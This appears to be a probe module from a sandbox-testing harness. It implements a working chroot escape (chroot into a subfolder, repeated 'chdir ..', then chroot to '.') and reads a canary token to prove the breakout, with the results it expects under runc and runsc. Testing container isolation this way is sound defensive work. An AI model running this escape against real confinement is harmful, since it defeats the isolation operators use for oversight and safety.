"""Climb out of a changed root: chroot below the working folder, then `..` as often as it takes.

Works against anything that confines by chroot alone.
"""

from __future__ import annotations

import os
from typing import Any

from sandboxd.inside.escapes._kernel import read_text, scratch_folder

TITLE = "climb out of the root folder"
JUDGE = "token"
EXPECTED = {"runc": "no SYS_CHROOT, or a pivoted root", "runsc": "no SYS_CHROOT, or its own root"}


def attempt(facts: dict[str, Any]) -> dict[str, Any]:
    below = scratch_folder()
    try:
        os.chdir("/")
        os.chroot(below)
    finally:
        # Still reachable from the old working folder, whatever the root is now.
        os.rmdir(below.lstrip("/"))
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return {"token": read_text(facts["canary"])}
